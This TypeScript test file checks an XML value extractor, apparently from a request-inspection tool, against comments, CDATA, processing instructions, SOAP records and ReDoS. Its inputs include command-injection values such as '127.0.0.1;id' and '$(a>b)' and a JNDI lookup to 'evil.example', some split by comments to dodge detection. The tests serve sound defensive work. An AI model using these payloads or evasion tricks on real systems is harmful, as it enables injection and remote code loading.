import assert from 'node:assert/strict';
import { test } from 'node:test';
import { blankValues, xmlValues } from './xml.ts';

const paths = (xml: string): [string, string][] => xmlValues(xml, 1024).values.map((v) => [v.path, v.value]);

test('values, attributes, CDATA and offsets as a parser reads them', () => {
  const xml = '<?xml version="1.0"?><s:Env xmlns:s="x"><s:Body><Login a="1>2"><User>jane</User><Password>p&gt;w</Password>' +
    '<!-- note --><Note><![CDATA[<b>hi</b>]]></Note></Login></s:Body></s:Env>';
  const r = xmlValues(xml, 1024);
  assert.equal(r.wellFormed, true);
  assert.deepEqual(
    r.values.map((v) => [v.path, v.value]),
    [['Env.Body.Login.@a', '1>2'], ['Env.Body.Login.User', 'jane'], ['Env.Body.Login.Password', 'p&gt;w'], ['Env.Body.Login.Note', '<b>hi</b>']],
  );
  for (const v of r.values) assert.equal(v.spans.map(([a, b]) => xml.slice(a, b)).join('').trim(), v.value);
  assert.equal(blankValues(xml, [r.values[2]!]), xml.replace('p&gt;w', ' '.repeat(6)));
});

test('a processing instruction, a quoted > or a Unicode name does not open or end a tag early (two reviews)', () => {
  assert.deepEqual(paths('<r><host><?pi x><password>?>127.0.0.1;id</host></r>'), [['r.host', '127.0.0.1;id']]);
  assert.deepEqual(paths('<r><host><password ü=">"/>127.0.0.1;id<password ü="/>"></password></host></r>'), [
    ['r.host.password.@ü', '>'],
    ['r.host.password.@ü', '/>'],
    ['r.host', '127.0.0.1;id'],
  ]);
  assert.deepEqual(paths('<login größe="1" password="$(a>b)"/>'), [['login.@größe', '1'], ['login.@password', '$(a>b)']]);
  assert.deepEqual(paths('<login><名前>ボブ</名前></login>'), [['login.名前', 'ボブ']]);
});

test("an element's own text is joined across comments, instructions, CDATA and children (a ninth review)", () => {
  assert.deepEqual(paths('<r><name>${jn<!---->di:ldap://evil.example/a}</name></r>'), [['r.name', '${jndi:ldap://evil.example/a}']]);
  assert.deepEqual(paths('<r><host>127.0.0.1;<![CDATA[id]]></host></r>'), [['r.host', '127.0.0.1;id']]);
  assert.deepEqual(paths('<r><host>127.0.0.1;<?a?>id</host></r>'), [['r.host', '127.0.0.1;id']]);
  assert.deepEqual(paths('<r><host>127.0.0.1<b/>;id</host></r>'), [['r.host', '127.0.0.1;id']]);
});

test('only a leaf in a record of a SOAP envelope is a record member; text others could read is not', () => {
  const records = (xml: string) => xmlValues(xml, 1024).values.map((v) => [v.path, v.record]);
  const soap = (inner: string) => `<s:Envelope xmlns:s="x"><s:Body>${inner}</s:Body></s:Envelope>`;
  assert.deepEqual(records(soap('<Login><User>jane</User><Password>pw</Password></Login>')), [
    ['Envelope.Body.Login.User', true],
    ['Envelope.Body.Login.Password', true],
  ]);
  // Nested in a field (its textContent is the password's), alone, with text beside it, or outside SOAP: no.
  for (const xml of [
    soap('<Exec><host><password>;id</password></host></Exec>'),
    soap('<Exec><host>127.0.0.1<password>;id</password><u>1</u></host></Exec>'),
    '<Login><User>jane</User><Password>pw</Password></Login>',
  ])
    assert.ok(records(xml).every(([p, r]) => !String(p).endsWith('assword') || r === false), xml);
  // Attributes are read by their name only.
  assert.deepEqual(records('<login user="a" password="b"/>'), [['login.@user', true], ['login.@password', true]]);
});

test('what a parser may read otherwise is not well-formed', () => {
  for (const xml of [
    '<!DOCTYPE r [<!ENTITY a "x">]><r>&a;</r>',
    '<a><b></a></b>',
    '<a>1 < 2</a>',
    '<a',
    '<a></a junk>',
    '<a b=c>x</a>',
    '<a><b>x</b>',
    `${'<w>'.repeat(65)}x${'</w>'.repeat(65)}`,
  ])
    assert.equal(xmlValues(xml, 1024).wellFormed, false, xml.slice(0, 40));
  // A body cut at the inspected size may leave its last elements open.
  assert.equal(xmlValues('<a><b>x</b><c>yy', 1024, false).wellFormed, true);
});

test('long names in deep paths stay linear (a review: 168 ms on 127 KB)', () => {
  const name = 'n'.repeat(1900);
  const xml = `${`<${name}>`.repeat(64)}${'a<!---->'.repeat(1100)}${`</${name}>`.repeat(64)}`;
  const t0 = process.hrtime.bigint();
  xmlValues(xml, 1024);
  // A ReDoS guard, not a speed target.
  assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 60);
});
